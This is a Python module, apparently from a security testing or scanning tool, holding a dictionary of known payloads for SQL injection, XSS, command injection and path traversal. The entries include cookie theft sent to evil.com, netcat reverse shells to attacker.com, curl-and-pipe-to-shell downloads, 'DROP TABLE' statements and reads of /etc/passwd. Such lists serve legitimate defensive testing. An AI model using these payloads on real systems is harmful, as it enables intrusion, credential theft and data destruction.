"""Known attack payloads."""

# Fixed values.
PAYLOADS = {
    "SqlInjection": (
        "' OR '1'='1",
        "' OR '1'='1' --",
        "' OR '1'='1' /*",
        "1' OR '1'='1",
        "admin'--",
        "admin' #",
        "' UNION SELECT NULL--",
        "' UNION SELECT username, password FROM users--",
        "1 UNION SELECT 1,2,3,4,5--",
        "' UNION ALL SELECT 1,2,3,4,5,6,7,8,9,10--",
        "1; DROP TABLE users--",
        "'; DROP TABLE users; --",
        "1'; EXEC xp_cmdshell('dir')--",
        "' AND 1=1--",
        "' AND 1=2--",
        "' AND SUBSTRING(username,1,1)='a'--",
        "' AND (SELECT COUNT(*) FROM users)>0--",
        "1 AND SLEEP(5)--",
        "1' AND SLEEP(5)--",
        "1' WAITFOR DELAY '0:0:5'--",
        "' OR BENCHMARK(10000000,SHA1('test'))--",
        "' OR pg_sleep(5)--",
        "1' AND extractvalue(1,concat(0x7e,(SELECT version())))--",
        "1' AND updatexml(1,concat(0x7e,(SELECT version())),1)--",
    ),
    "Xss": (
        "<script>alert('XSS')</script>",
        "<script>alert(document.cookie)</script>",
        "<img src=x onerror=alert('XSS')>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert('XSS')>",
        "<body onload=alert('XSS')>",
        "<iframe src=\"javascript:alert('XSS')\">",
        "javascript:alert('XSS')",
        "<a href=\"javascript:alert('XSS')\">click</a>",
        "'-alert(1)-'",
        "\";alert(1);//",
        "<ScRiPt>alert('XSS')</ScRiPt>",
        "<script>document.location='http://evil.com/steal?c='+document.cookie</script>",
        "<img src=\"x\" onerror=\"eval(atob('YWxlcnQoMSk='))\">",
        "<svg/onload=alert(1)>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    ),
    "CommandInjection": (
        "; cat /etc/passwd",
        "| cat /etc/passwd",
        "|| cat /etc/passwd",
        "&& cat /etc/passwd",
        "`cat /etc/passwd`",
        "$(cat /etc/passwd)",
        "; ls -la",
        "| ls -la",
        "; whoami",
        "| whoami",
        "; id",
        "& ping -c 10 127.0.0.1 &",
        "; nc -e /bin/sh attacker.com 1234",
        "| nc attacker.com 1234 -e /bin/bash",
        "; wget http://evil.com/shell.sh | bash",
        "; curl http://evil.com/shell.sh | sh",
        "& nslookup evil.com &",
    ),
    "PathTraversal": (
        "../../../etc/passwd",
        "....//....//....//etc/passwd",
        "..\\..\\..\\windows\\win.ini",
        "....\\\\....\\\\....\\\\windows\\win.ini",
        "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc/passwd",
        "%2e%2e/%2e%2e/%2e%2e/etc/passwd",
        "..%252f..%252f..%252fetc/passwd",
        "..%c0%af..%c0%af..%c0%afetc/passwd",
        "..%255c..%255c..%255cwindows/win.ini",
        "/proc/self/environ",
        "/var/log/apache2/access.log",
        "php://filter/convert.base64-encode/resource=index.php",
        "file:///etc/passwd",
        "....//....//....//....//etc/passwd%00.jpg",
    ),
}
